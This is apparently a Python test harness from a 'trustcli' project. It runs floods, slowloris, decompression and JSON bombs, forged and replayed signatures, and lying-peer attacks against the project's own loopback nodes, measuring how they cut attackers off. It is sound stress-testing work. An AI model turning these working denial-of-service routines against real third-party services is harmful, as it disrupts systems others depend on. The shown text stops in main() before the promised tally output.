"""A hostile node: attacks against running `trust serve` processes, at full speed. A program and a library.

    python -m tests.network.attacker http://127.0.0.1:8787 --attack forged-records --for 10s

`attacking` is printed once the first message is out, or cannot be. After the time, or when stdin closes, one
line of JSON says what was sent and what the victim did about it. It keeps no rule: keys are made for each
link, frames are written to the socket by hand, and several threads attack at once. It has an address of its
own (127.66.…, which Linux gives to everybody), as a stranger has, so that what is counted by address is
counted for him. Attacks that need the victim to call announce a listener of ours and wait for the call.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import functools
import gzip
import hashlib
import itertools
import json
import os
import select
import socket
import sys
import threading
import time
import zlib
from collections import Counter
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from trustcli.errors import PeerFault
from trustcli.key_forms import did_of_seed
from trustcli.mesh import messages, payloads
from trustcli.mesh.handshake import Handshake, Me, head_of
from trustcli.mesh.link import Link
from trustcli.records import canonical, crypto
from trustcli.records.envelope import Record
from trustcli.sync import negentropy
from trustcli.sync.exchange import Head
from trustcli.transports import wire

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence
    from typing import Self

    from trustcli.mesh.payloads import Payload

    Attack = Callable[["Foe"], None]

NET = "main"
SOURCE = "127.66.0.1"
THREADS = 8
HALVES = 100  # connections of each kind that never say the second half
PER_ADDRESS = 20  # connections that a node lets one address have, as docs/protocol.md says
DEADLINE = 10.0  # seconds a node gives to a head and to a handshake
REQUESTS = 600  # a node takes at once from one address
LAST_POSTS = (
    3  # once the time is over: who waits for his challenge still posts, and hears what he gets for it
)
_GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"  # RFC 6455 §1.3
_GOODBYE = b"\x88\x02\x03\xe8"  # a WebSocket close of code 1000
_RECEIVE = 1 << 16
_PATIENCE = 5.0  # seconds for the victim to answer
_CALL = 60.0  # and to call us
TEXT, CLOSE, FIN, DEFLATED = 1, 8, 0x80, 0x40  # RFC 6455 §5.2, RFC 7692 §6


def now() -> int:
    """Unix ms."""
    return time.time_ns() // 1_000_000


class Gone(Exception):
    """The victim hung up, or does not let us in."""


class _Goodbye(Gone):
    """The victim said so; the connection may still be there."""


class Tally:
    """What one thread did and what came of it.

    Attributes:
        sent: attack messages: frames, requests, connections.
        links: connections that got as far as attacking.
        cuts: seconds from crossing the line until the victim ended it, for each time it did.
        codes: of CLOSE messages, WebSocket closes and HTTP statuses.
    """

    def __init__(self) -> None:
        self.sent = 0
        self.links = 0
        self.cuts: list[float] = []
        self.codes: Counter[str] = Counter()

    def __add__(self, other: Tally) -> Tally:
        both = Tally()
        both.sent, both.links = self.sent + other.sent, self.links + other.links
        both.cuts, both.codes = self.cuts + other.cuts, self.codes + other.codes
        return both

    def document(self, attack: str) -> dict[str, object]:
        """Return it for JSON."""
        worst = round(max(self.cuts, default=0.0), 3)
        return {
            "attack": attack, "sent": self.sent, "links": self.links, "cuts": len(self.cuts),
            "slowest_cut": worst, "codes": dict(self.codes),
        }  # fmt: skip


class Key:
    """A key of the attacker, fresh unless a seed is given."""

    def __init__(self, seed: bytes = b"") -> None:
        self.seed = seed or os.urandom(32)
        self.did = did_of_seed(self.seed)
        self.sign = crypto.signer(self.seed)
        self.me = Me(self.did, self.sign, NET)

    def record(self, kind: str, **body: canonical.Json) -> bytes:
        """Return the line of a sound record."""
        made = Record.seal(net=NET, kind=kind, author=self.did, created=now(), body=body, sign=self.sign)
        return made.line

    def forged(self, count: int, salt: int = 0) -> list[bytes]:
        """Return lines of records that nobody signed, all different."""
        model = self.record("rating", subject="agent:000000000000", value=40, category="reliability")
        return [model.replace(b"agent:000000000000", b"agent:%012d" % (salt + one)) for one in range(count)]


class Foe:
    """One attacking thread: its victims, its tally, and when it ends."""

    def __init__(self, urls: Sequence[str], source: str, ended: threading.Event, crew: list[Foe]) -> None:
        self.urls = urls
        self.source = source
        self.ended = ended
        self.crew = crew
        self.tally = Tally()
        self._dids: dict[str, str] = {}

    @property
    def over(self) -> bool:
        """Whether it is time to stop."""
        return self.ended.is_set()

    @property
    def total(self) -> int:
        """How many attack messages all threads sent."""
        return sum(foe.tally.sent for foe in self.crew)

    def did(self, url: str) -> str:
        """Return the key of a victim.

        Raises:
            Gone, OSError: it does not say.
        """
        if url not in self._dids:
            with Pipe(self, self.connect(url)) as pipe:
                pipe.sock.sendall(request(url, "/v1/node"))
                head = pipe.read_head()
                if not head.startswith("HTTP/1.1 200"):
                    raise Gone(pipe.status(head))
                self._dids[url] = json.loads(pipe.body(head))["did"]
        return self._dids[url]

    def connect(self, url: str = "") -> socket.socket:
        """Return a connection to a victim, by default the first.

        Raises:
            Gone: it does not let us in.
        """
        where = urlsplit(url or self.urls[0])
        try:
            found = socket.create_connection((where.hostname, where.port), _PATIENCE, (self.source, 0))
        except OSError as problem:
            raise Gone(str(problem)) from None
        found.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return found

    def call(self, key: Key | None = None, url: str = "") -> Caller:
        """Return a mesh link whose handshake is done.

        Raises:
            Gone: it did not come to that.
        """
        caller = Caller(self, self.connect(url), key or Key())
        try:
            caller.open(url or self.urls[0])
            caller.greet()
        except (OSError, Gone, PeerFault) as problem:
            caller.hang_up()
            raise Gone(str(problem)) from None
        return caller


class Pipe:
    """A socket and what came over it that nobody took yet."""

    def __init__(self, foe: Foe, sock: socket.socket) -> None:
        self.foe = foe
        self.sock = sock
        self._left = b""

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.hang_up()

    def hang_up(self) -> None:
        """Close without a word."""
        self.sock.close()

    def read_head(self) -> str:
        """Return the head of an HTTP message.

        Raises:
            Gone, OSError: there is none.
        """
        while b"\r\n\r\n" not in self._left:
            self._more()
        head, self._left = self._left.split(b"\r\n\r\n", 1)
        return head.decode("latin-1")

    def status(self, head: str) -> str:
        """Return the status in the head of an answer, counted."""
        status = head.split(" ")[1]
        self.foe.tally.codes[status] += 1
        return status

    def body(self, head: str) -> bytes:
        """Return the body that follows a head.

        Raises:
            Gone, OSError: it does not come.
        """
        size = int(field(head, "content-length") or 0)
        while len(self._left) < size:
            self._more()
        body, self._left = self._left[:size], self._left[size:]
        return body

    def ask(self, request: bytes) -> tuple[str, str]:
        """Return status and head of the answer to a request.

        Raises:
            Gone, OSError: there is none.
        """
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.sock.sendall(request)  # it may have answered before it was told all
        head = self.read_head()
        self.body(head)
        return self.status(head), head

    def _more(self) -> None:
        data = self.sock.recv(_RECEIVE)
        if not data:
            raise Gone("closed")
        self._left += data


class Caller(Pipe):
    """A WebSocket of ours, either end of it, and the mesh link over it."""

    def __init__(self, foe: Foe, sock: socket.socket, key: Key, *, dialling: bool = True) -> None:
        super().__init__(foe, sock)
        self.key = key
        self.head = Head("attacker", 0, 0, "00" * 32)
        handshake = Handshake(key.me, os.urandom(32), dialling=dialling)
        self.link = Link(1, key.me, handshake, now(), "", "x" if dialling else "")
        self.sent: list[bytes] = []

    # WebSocket

    def open(self, url: str, *headers: str) -> str:
        """Ask for the mesh; return the head of the answer.

        Raises:
            Gone: the answer is not 101; it is counted.
        """
        self.sock.sendall(upgrade(url, *headers))
        head = self.read_head()
        if not head.startswith("HTTP/1.1 101"):
            raise Gone(self.status(head))
        return head

    def accept(self) -> None:
        """Answer a call for the mesh."""
        key = field(self.read_head(), "sec-websocket-key")
        proof = base64.b64encode(hashlib.sha1(key.encode() + _GUID).digest())
        self.sock.sendall(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Accept: " + proof + b"\r\n\r\n"
        )

    def frames(self) -> Iterator[bytes]:
        """Yield the text frames that came so far; a close ends it.

        Raises:
            Gone: the victim said goodbye.
        """
        while (found := split_frame(self._left)) is not None:
            opcode, payload, self._left = found
            if opcode == CLOSE:
                self.foe.tally.codes[f"ws {int.from_bytes(payload[:2], 'big')}"] += 1
                raise _Goodbye("closed")
            if opcode == TEXT:
                yield payload

    def read(self) -> bytes:
        """Return the next text frame.

        Raises:
            Gone, OSError: there is none.
        """
        while True:
            for frame in self.frames():
                return frame
            self._more()

    def throw(self, frame: bytes) -> None:
        """Send any bytes as a text frame."""
        self.sent.append(frame)
        self.sock.sendall(ws_frame(frame, masked=self.link.is_dialler))

    # the mesh

    def greet(self) -> None:
        """Shake hands, honestly, from either side.

        Raises:
            Gone, OSError, PeerFault: it did not work.
        """
        if self.link.is_dialler:
            self.throw(self.link.greet(self.head, now()))
        while not self.link.is_open:
            self._step(self.read())

    def _step(self, frame: bytes) -> None:
        if self.link.is_greeting(frame):
            return
        self._note(frame)
        type_, payload = self.link.accept(frame, now())
        answer = self.link.greeted(frame, payload, self.head, now()) if type_ == "HANDSHAKE" else None
        if answer:
            self.throw(answer)

    def _note(self, frame: bytes) -> None:
        """Count the last word of the victim."""
        message = messages.parse(frame)
        if message.type == payloads.CLOSE:
            self.foe.tally.codes[json.loads(message.payload)["code"]] += 1

    def heard(self) -> Iterator[tuple[str, Payload]]:
        """Yield messages as they come, until the end.

        Raises:
            Gone, OSError: the end.
        """
        while True:
            frame = self.read()
            self._note(frame)
            with contextlib.suppress(PeerFault):  # it may speak more than we would let it
                yield self.link.accept(frame, now())

    def frame(self, type_: str, payload: Payload) -> bytes:
        """Return a frame, signed by our key for this session."""
        return self.link.frame(type_, payload, now())

    def say(self, type_: str, payload: Payload) -> None:
        """Send a message."""
        self.throw(self.frame(type_, payload))

    def push(self, lines: Sequence[bytes]) -> bytes:
        """Return a TRUST_UPDATE."""
        return self.frame(payloads.TRUST_UPDATE, payloads.TrustUpdate(messages.raws(lines)))

    def beat(self, type_: str = payloads.PING) -> bytes:
        """Return a heartbeat."""
        return self.frame(type_, payloads.Beat(head_of(self.head)))

    def flood(self, frames: Iterator[bytes], *, reading: bool = True) -> None:
        """Send frames as fast as they are taken, until we are cut off; each crosses the line."""
        self.pour((ws_frame(frame) for frame in frames), reading=reading)

    def pour(self, chunks: Iterator[bytes], *, reading: bool = True) -> None:
        """Send chunks of bytes, each an attack message, until we are cut off.

        A goodbye ends it only when there is nothing more to send.
        """
        tally = self.foe.tally
        tally.links += 1
        self.sock.setblocking(False)
        begun, rest = time.monotonic(), memoryview(b"")
        while not self.foe.over:
            if not rest:
                rest = memoryview(next(chunks, b""))
                tally.sent += bool(rest)
            readable, writable, _ = select.select([self.sock], [self.sock] if rest else [], [], 0.1)
            try:
                if readable and reading:
                    self._more()
                    self._listen(deaf=bool(rest))
                if writable:
                    rest = rest[self.sock.send(rest) :]
            except BlockingIOError:
                continue
            except (OSError, Gone):
                tally.cuts.append(time.monotonic() - begun)
                return

    def _listen(self, *, deaf: bool) -> None:
        try:
            for frame in self.frames():
                self._note(frame)
        except _Goodbye:
            if not deaf:
                raise


def field(head: str, name: str) -> str:
    """Return the value of a header, "" where it is not."""
    for line in head.split("\r\n")[1:]:
        found, _, value = line.partition(":")
        if found.lower() == name:
            return value.strip()
    return ""


def upgrade(url: str, *headers: str) -> bytes:
    """Return the request that opens the mesh."""
    lines = (
        "GET /mesh HTTP/1.1", f"Host: {urlsplit(url).netloc}", "Connection: Upgrade", "Upgrade: websocket",
        "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: " + base64.b64encode(os.urandom(16)).decode(),
        *headers,
    )  # fmt: skip
    return "\r\n".join((*lines, "", "")).encode()


def ws_frame(payload: bytes, opcode: int = TEXT, flags: int = FIN, *, masked: bool = True) -> bytes:
    """Return a WebSocket frame; its mask is zero, so that the payload goes out as it is."""
    size, bit = len(payload), masked << 7
    if size < 126:
        length = bytes([bit | size])
    elif size < 1 << 16:
        length = bytes([bit | 126]) + size.to_bytes(2, "big")
    else:
        length = bytes([bit | 127]) + size.to_bytes(8, "big")
    return bytes([flags | opcode]) + length + b"\0\0\0\0" * masked + payload


def split_frame(data: bytes) -> tuple[int, bytes, bytes] | None:
    """Return (opcode, payload, rest) of the first frame, None while it is not whole."""
    if len(data) < 2:
        return None
    size, at = data[1] & 0x7F, 2
    if size >= 126:
        at = 4 if size == 126 else 10
        size = int.from_bytes(data[2:at], "big")
    mask = data[at : at + 4] if data[1] & 0x80 else b""
    at += len(mask)
    if len(data) < at + size:
        return None
    payload = data[at : at + size]
    if mask.strip(b"\0"):
        long = (mask * (size // 4 + 1))[:size]
        payload = (int.from_bytes(payload, "big") ^ int.from_bytes(long, "big")).to_bytes(size, "big")
    return data[0] & 0x0F, payload, data[at + size :]


# --- over mesh links that we open -----------------------------------------------------------------


def _links(frames: Callable[[Caller], Iterator[bytes]], *, reading: bool = True) -> Attack:
    """Return an attack that floods link after link, each with a key of its own."""

    def attack(foe: Foe) -> None:
        with foe.call() as caller:
            caller.flood(frames(caller), reading=reading)

    attack.__doc__ = frames.__doc__
    return attack


def _forged_records(caller: Caller) -> Iterator[bytes]:
    """Full frames of records that nobody signed."""
    for salt in itertools.count(0, 1_000):
        yield caller.push(caller.key.forged(1_000, salt))


def _forged_frames(caller: Caller) -> Iterator[bytes]:
    """Frames with somebody else's signature."""
    while True:
        yield caller.beat()[:-88] + b"A" * 86 + b'"}'


def _oversize(_caller: Caller) -> Iterator[bytes]:
    """Frames longer than a frame may be."""
    while True:
        yield b'{"message":' + b" " * (600 << 10)


def _garbage(_caller: Caller) -> Iterator[bytes]:
    """Text that is no message."""
    while True:
        yield os.urandom(250).hex().encode()


def _json_bombs(caller: Caller) -> Iterator[bytes]:
    """Signed frames as deep as they are long, and numbers as long as a frame."""
    for bomb in itertools.cycle((b"[" * 100_000 + b"]" * 100_000, b"1" * 400_000)):
        frame = caller.push([b"0"])
        yield frame.replace(b'"records":[0]', b'"records":[' + bomb + b"]")


def _sync_requests(caller: Caller) -> Iterator[bytes]:
    """Questions for everything there is."""
    for id_ in itertools.count(1):
        feed = payloads.FeedOf(0, payloads.PAGE_LIMIT)
        yield caller.frame(payloads.SYNC_REQUEST, payloads.SyncRequest(id=id_, feed=feed))


def _reconciling(caller: Caller) -> Iterator[bytes]:
    """Comparisons with a set that the victim has nothing of, from the start each time."""
    strangers = negentropy.Vector(sorted((second, os.urandom(32)) for second in range(4_000)))
    text = messages.base64(negentropy.Initiator(lambda: strangers).open())
    for id_ in itertools.count(1):
        yield caller.frame(payloads.SYNC_REQUEST, payloads.SyncRequest(id=id_, reconcile=text))


def _repeated_frames(caller: Caller) -> Iterator[bytes]:
    """One good frame, again and again."""
    return itertools.repeat(caller.beat())


def _repeated_records(caller: Caller) -> Iterator[bytes]:
    """One good record, in ever new frames."""
    line = caller.key.record("rating", subject="agent:again", value=30, category="reliability")
    while True:
        yield caller.push([line])


def _critical(caller: Caller) -> Iterator[bytes]:
    """CRITICAL revocations, each sound, each in a message of its own."""
    for number in range(10_000):
        line = caller.key.record("revocation", record=f"{number:064x}", priority="critical")
        yield caller.frame(payloads.REVOCATION, payloads.Revocation("CRITICAL", messages.raws([line])))


def _pings(caller: Caller) -> Iterator[bytes]:
    """Good heartbeats, each with another head, many more than a peer may send."""
    while True:
        caller.head = caller.head._replace(fingerprint=os.urandom(32).hex(), records=caller.head.records + 1)
        yield caller.beat()


def _sound_records(caller: Caller) -> Iterator[bytes]:
    """The control: good records in good frames, no more than a peer may send."""
    for number in range(60):
        names = [f"agent:sound-{number}-{one}" for one in range(5)]
        yield caller.push(
            [caller.key.record("rating", subject=name, value=40, category="reliability") for name in names]
        )


def replayed_handshake(foe: Foe) -> None:
    """A handshake of our own, played again frame by frame on a new connection."""
    with foe.call() as first:
        recorded = list(first.sent)
    while not foe.over:
        with Caller(foe, foe.connect(), first.key) as again:
            again.open(foe.urls[0])
            again.flood(iter(recorded))


def early_frames(foe: Foe) -> None:
    """Long frames before the handshake is done."""
    with Caller(foe, foe.connect(), Key()) as caller:
        caller.open(foe.urls[0])
        caller.flood(itertools.repeat(b'{"message":' + b" " * 5_000))


def deflated(foe: Foe) -> None:
    """The offer to compress, and compressed frames whether or not it was taken."""
    with Caller(foe, foe.connect(), Key()) as caller:
        head = caller.open(foe.urls[0], "Sec-WebSocket-Extensions: permessage-deflate")
        foe.tally.codes["deflate taken"] += "permessage-deflate" in head.lower()
        caller.pour(itertools.repeat(ws_frame(_deflate_bomb(), flags=FIN | DEFLATED)))


@functools.cache
def _deflate_bomb() -> bytes:
    """Return two megabytes as permessage-deflate has them, in two kilobytes."""
    packer = zlib.compressobj(wbits=-15)
    return (packer.compress(b"0" * (2 << 20)) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]


# --- over HTTP ------------------------------------------------------------------------------------


def request(url: str, target: str, body: bytes = b"", *headers: str) -> bytes:
    """Return a request; one with a body is a POST."""
    lines = [f"{'POST' if body else 'GET'} {target} HTTP/1.1", f"Host: {urlsplit(url).netloc}", *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join((*lines, "", "")).encode() + body


def _asking(foe: Foe, requests: Iterator[bytes], line: int = 0) -> None:
    """Make requests over one connection as fast as they are answered; 4xx is being cut off.

    Args:
        line: how many requests of all threads together are no offence.
    """
    tally = foe.tally
    tally.links += 1
    with Pipe(foe, foe.connect()) as pipe:
        crossed = 0.0
        for one in requests:
            if foe.over:
                return
            if not crossed and foe.total >= line:
                crossed = time.monotonic()
            tally.sent += 1
            try:
                status, head = pipe.ask(one)
            except OSError:
                status, head = "4", ""
            if status.startswith("4") and crossed:
                tally.cuts.append(time.monotonic() - crossed)
                crossed = 0.0
            if field(head, "connection") == "close" or not head:
                return


def http_flood(foe: Foe) -> None:
    """Many more requests than an address may make, for everything there is."""
    url = foe.urls[0]
    targets = ("/v1/records?limit=10000", "/healthz", "/v1/nodes", "/v1/peers", "/v1/node")
    _asking(foe, (request(url, target) for target in itertools.cycle(targets)), REQUESTS)


def http_bombs(foe: Foe) -> None:
    """Compressed bodies, JSON deeper than it is wide, a megabyte of digits, lengths that are lies."""
    url, ndjson = foe.urls[0], f"Content-Type: {wire.NDJSON}"
    octets, signed = f"Content-Type: {wire.BYTES}", _unproven(Key())
    bombs = (
        request(url, "/v1/reconcile", gzip.compress(b"\0" * (1 << 20)), octets, "Content-Encoding: gzip"),
        request(url, "/v1/records", b"[" * (1 << 19) + b"]" * (1 << 19), ndjson, *signed),
        request(url, "/v1/records", b"1" * (1 << 20), ndjson, *signed),
        request(url, "/v1/records?after=" + "9" * 15_000),
        request(url, "/v1/records", b"", octets, "Content-Length: 100000000"),
        request(url, "/v1/fetch", b"", octets, "Content-Length: " + "9" * 4_000),
        request(url, "/v1/reconcile", b"", octets, "Transfer-Encoding: chunked")
        + b"FFFFFFFF\r\n"
        + b"\0" * 70_000,
    )
    first = foe.tally.links % len(bombs)  # most of them end the connection
    _asking(foe, iter(bombs[first:] + bombs[:first]))


def _unproven(key: Key) -> tuple[str, ...]:
    """Return headers that look signed."""
    return f"Trust-Key: {key.did}", f"Trust-Time: {now()}", "Trust-Signature: " + "A" * 86


def http_reconciling(foe: Foe) -> None:
    """Comparisons that cost the most, without end."""
    strangers = negentropy.Vector(sorted((second, os.urandom(32)) for second in range(4_000)))
    body = negentropy.Initiator(lambda: strangers).open()
    one = request(foe.urls[0], "/v1/reconcile", body, f"Content-Type: {wire.BYTES}")
    _asking(foe, itertools.repeat(one), REQUESTS)


def forged_posts(foe: Foe) -> None:
    """Full bodies of forged records, signed by a fresh key each time one is cut off.

    A busy node lets them wait for a second, so what came of one is heard also after the end.
    """
    key, url, challenge, taken, left = Key(), foe.urls[0], "", 0, LAST_POSTS
    body = wire.join_lines(key.forged(wire.MAX_BODY // 360))
    begun = time.monotonic()
    foe.tally.links += 1
    while left:
        left -= foe.over
        foe.did(url)  # which it may refuse to say
        foe.tally.sent += 1
        try:
            with Pipe(foe, foe.connect()) as pipe:
                status, head = pipe.ask(_signed_post(foe, key, url, body, challenge))
        except (OSError, Gone):
            if not taken:
                raise
            status, head = "4", ""  # what it did before has shut the door
        taken += status == "200"
        if status == "401" and not challenge:
            challenge, begun = field(head, wire.CHALLENGE), time.monotonic()  # before that nothing was read
        elif status.startswith("4"):
            foe.tally.cuts.append(time.monotonic() - begun)
            return


def _signed_post(foe: Foe, key: Key, url: str, body: bytes, challenge: str) -> bytes:
    signed = wire.sign_request(
        method="POST", path="/v1/records", body=body, to=foe.did(url), network=NET, me=key.did,
        sign=key.sign, now=now(), challenge=challenge,
    )  # fmt: skip
    headers = [f"{name}: {value}" for name, value in signed.items()]
    return request(url, "/v1/records", body, f"Content-Type: {wire.NDJSON}", *headers)


def slow_reader(foe: Foe) -> None:
    """Ask for everything and read nothing."""
    one = request(foe.urls[0], "/v1/records?limit=10000")
    with Caller(foe, foe.connect(), Key()) as caller:
        caller.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        caller.pour(itertools.repeat(one, 50), reading=False)


# --- connections ----------------------------------------------------------------------------------


def connection_flood(foe: Foe) -> None:
    """Connections as fast as they are taken, most of them held."""
    held: list[socket.socket] = []
    try:
        while not foe.over and len(held) < 2 * PER_ADDRESS:
            begun = time.monotonic()
            sock = foe.connect()
            foe.tally.sent += 1
            if select.select([sock], [], [], 0.02)[0]:
                foe.tally.cuts.append(time.monotonic() - begun)
                sock.close()
            else:
                held.append(sock)
        foe.tally.links += len(held)
    finally:
        for sock in held:
            sock.close()


def slowloris(foe: Foe) -> None:
    """Half heads, half WebSocket handshakes, half mesh handshakes, a hundred of each from one address each.

    A cut is how late the end came: those who get no seat must go at once, the others at the deadline.
    """
    held: dict[int, tuple[Pipe, float]] = {}
    with contextlib.ExitStack() as stack:
        for place, half in enumerate((_half_head, _half_upgrade, _half_greeting)):
            own = Foe(foe.urls, f"{foe.source.rpartition('.')[0]}.{100 + place}", foe.ended, foe.crew)
            for _ in range(HALVES):
                _note_ends(foe, held, 0.0)
                foe.tally.sent += 1
                begun = time.monotonic()
                try:
                    caller = stack.enter_context(Caller(own, own.connect(), Key()))
                    half(caller)
                except (Gone, OSError):
                    foe.tally.codes["refused"] += 1
                else:
                    held[caller.sock.fileno()] = caller, begun
        foe.tally.links += len(held)
        _wait_for_ends(foe, held)
    foe.ended.wait()


def _wait_for_ends(foe: Foe, held: dict[int, tuple[Pipe, float]]) -> None:
    last = time.monotonic() + DEADLINE + _PATIENCE
    while held and time.monotonic() < last:
        _note_ends(foe, held, 0.1)
    foe.tally.codes["never closed"] += len(held)


def _note_ends(foe: Foe, held: dict[int, tuple[Pipe, float]], seconds: float) -> None:
    for number in select.select(list(held), [], [], seconds)[0]:
        pipe, begun = held[number]
        if _is_over(pipe.sock):
            age = time.monotonic() - begun
            foe.tally.cuts.append(max(0.0, age - DEADLINE))
            foe.tally.codes["refused" if age < DEADLINE / 2 else "too slow"] += 1
            del held[number]


def _half_head(caller: Caller) -> None:
    caller.sock.sendall(b"GET /v1/node HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A")


def _half_upgrade(caller: Caller) -> None:
    caller.sock.sendall(upgrade(caller.foe.urls[0])[:-2])


def _half_greeting(caller: Caller) -> None:
    caller.open(caller.foe.urls[0])
    caller.throw(caller.link.greet(caller.head, now()))


def _is_over(sock: socket.socket) -> bool:
    try:
        data = sock.recv(_RECEIVE)
        return not data or _GOODBYE in data
    except OSError:
        return True


# --- when the victim calls ------------------------------------------------------------------------


def _called(answer: Callable[[Caller], None]) -> Attack:
    """Return an attack on those who call us: announce a listener under a fresh key, wait, answer."""

    def attack(foe: Foe) -> None:
        with socket.create_server((foe.source, 0)) as listening:
            key = Key()
            _announce(foe, key, f"http://{foe.source}:{listening.getsockname()[1]}")
            listening.settimeout(0.1)
            patience = time.monotonic() + _CALL
            while not foe.over and time.monotonic() < patience:
                with contextlib.suppress(OSError, Gone):
                    sock, _ = listening.accept()
                    with Caller(foe, sock, key, dialling=False) as caller:
                        caller.accept()
                        foe.tally.links += 1
                        answer(caller)

    attack.__doc__ = answer.__doc__
    return attack


def _announce(foe: Foe, key: Key, url: str) -> None:
    line = key.record("announce", endpoints=[url], roles=["full"])
    with foe.call(key) as caller:
        caller.throw(caller.push([line]))
        while not foe.over and not _is_known(foe, key):
            time.sleep(0.05)


def _is_known(foe: Foe, key: Key) -> bool:
    with Pipe(foe, foe.connect()) as pipe:
        pipe.sock.sendall(request(foe.urls[0], f"/v1/nodes/{key.did}"))
        return pipe.read_head().startswith("HTTP/1.1 200")


def _mirror(caller: Caller) -> None:
    """Say to the victim what it says."""
    _reflect(caller, caller)


def _relay(caller: Caller) -> None:
    """Say to the victim, on a second connection, what it says on the first."""
    other = Caller(caller.foe, caller.foe.connect(), Key())
    with other:
        other.open(caller.foe.urls[0])
        _reflect(caller, other)


def _reflect(here: Caller, there: Caller) -> None:
    begun = time.monotonic()
    try:
        while not here.foe.over:
            there.throw(here.read())
            here.foe.tally.sent += 1
            if there is not here:
                here.throw(there.read())
    except (OSError, Gone):
        here.foe.tally.cuts.append(time.monotonic() - begun)


def _lie(caller: Caller) -> None:
    """Answer as a node that always has more than the victim, and never gives any of it."""
    caller.head = Head("liar", 1_000_000, 1_000_000, os.urandom(32).hex())
    begun = time.monotonic()
    try:
        caller.greet()
        for type_, payload in caller.heard():
            caller.head = caller.head._replace(fingerprint=os.urandom(32).hex())
            if type_ == payloads.PING:
                caller.throw(caller.beat(payloads.PONG))
            elif isinstance(payload, payloads.SyncRequest):
                caller.say(payloads.SYNC_RESPONSE, _lies(caller, payload))
                caller.foe.tally.sent += 1
                caller.foe.tally.codes["asked"] += 1
            if caller.foe.over:
                return
    except (OSError, Gone, PeerFault):
        caller.foe.tally.cuts.append(time.monotonic() - begun)


def _lies(caller: Caller, asked: payloads.SyncRequest) -> payloads.SyncResponse:
    head = head_of(caller.head)
    if isinstance(asked.reconcile, str):
        strangers = negentropy.Vector(sorted((second, os.urandom(32)) for second in range(1_000)))
        text = messages.base64(negentropy.Initiator(lambda: strangers).open())
        return payloads.SyncResponse(head=head, id=asked.id, reconcile=text)
    after = asked.feed.after if isinstance(asked.feed, payloads.FeedOf) else 0
    return payloads.SyncResponse(head=head, id=asked.id, records=[], more=True, next=after + 1)


def equivocation(foe: Foe) -> None:
    """Tell two nodes two stories: two announcements of one moment, two heads of one ledger."""
    key = Key()
    with contextlib.ExitStack() as stack:
        callers = [stack.enter_context(foe.call(key, url)) for url in foe.urls]
        foe.tally.links += len(callers)
        for number in range(40):
            for which, caller in enumerate(callers):
                endpoint = f"https://story-{which}-{number}.example"
                caller.head = Head("split", number, number, f"{which:064x}")
                caller.throw(caller.push([key.record("announce", endpoints=[endpoint], roles=["full"])]))
                caller.throw(caller.beat())
                foe.tally.sent += 2
        foe.ended.wait(0.5)


ATTACKS: dict[str, Attack] = {
    "sound-records": _links(_sound_records),
    "forged-records": _links(_forged_records),
    "forged-frames": _links(_forged_frames),
    "oversize": _links(_oversize),
    "early-frames": early_frames,
    "garbage": _links(_garbage),
    "json-bombs": _links(_json_bombs),
    "deflated": deflated,
    "sync-requests": _links(_sync_requests),
    "unread-answers": _links(_sync_requests, reading=False),
    "reconciling": _links(_reconciling),
    "repeated-frames": _links(_repeated_frames),
    "repeated-records": _links(_repeated_records),
    "replayed-handshake": replayed_handshake,
    "critical": _links(_critical),
    "pings": _links(_pings),
    "equivocation": equivocation,
    "mirror": _called(_mirror),
    "relay": _called(_relay),
    "lying-heads": _called(_lie),
    "http-flood": http_flood,
    "http-bombs": http_bombs,
    "http-reconciling": http_reconciling,
    "forged-posts": forged_posts,
    "slow-reader": slow_reader,
    "connection-flood": connection_flood,
    "slowloris": slowloris,
}
"""All attacks by name; `sound-records` is none, but the control: what it sends is welcome."""

ALONE = frozenset(("sound-records", "equivocation", "mirror", "relay", "lying-heads", "slowloris"))
"""Attacks that one thread makes."""


class Siege:
    """One attack by all its threads, until `stop`.

    Args:
        rest: seconds a thread waits after each link: on the loopback interface all hosts share one host's
            handshakes.
    """

    def __init__(
        self,
        attack: str,
        urls: Sequence[str],
        source: str = SOURCE,
        threads: int = THREADS,
        rest: float = 0.0,
    ) -> None:
        self.attack = attack
        self._rest = rest
        self._ended = threading.Event()
        crew: list[Foe] = []
        count = 1 if attack in ALONE else threads
        crew += [Foe(urls, source, self._ended, crew) for _ in range(count)]
        self._crew = crew
        self._threads = [threading.Thread(target=self._run, args=(foe,), daemon=True) for foe in crew]

    def start(self) -> None:
        """Begin."""
        for thread in self._threads:
            thread.start()

    def stop(self) -> Tally:
        """End it; return what came of it."""
        self._ended.set()
        for thread in self._threads:
            thread.join(_PATIENCE)
        return self.tally()

    def __enter__(self) -> Self:
        self.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stop()

    def tally(self) -> Tally:
        """Return what came of it so far."""
        return sum((foe.tally for foe in self._crew), Tally())

    def _run(self, foe: Foe) -> None:
        while not foe.over:
            try:
                ATTACKS[self.attack](foe)
            except (Gone, OSError, PeerFault):
                time.sleep(0.005)
            else:
                self._ended.wait(self._rest)


def main() -> int:
    """Attack until the time is over or stdin closes; print the tally."""
    arguments = argparse.ArgumentParser(description="Attack running nodes of your own.")
    arguments.add_argument("urls", nargs="+", metavar="URL", help="the victim; a second one for two stories")
    arguments.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    arguments.add_argument("--for", default="10s", dest="seconds", help="how long, such as 10s")
    arguments.add_argument("--source", default=SOURCE, help="the attacker's address, of 127.0.0.0/8")
    arguments.add_argument("--threads", type=int, default=THREADS)
    given = arguments.parse_args()
    siege = Siege(given.attack, given.urls, given.source, given.threads)
    siege.start()
    until = time.monotonic() + float(given.seconds.removesuffix("s"))
    begun = time.monotonic() + 2 * _PATIENCE  # who was cut off before may not get in again now
    while not siege.tally().sent and time.monotonic() < min(begun, until):
        time.sleep(0.01)
    print("attacking", flush=True)
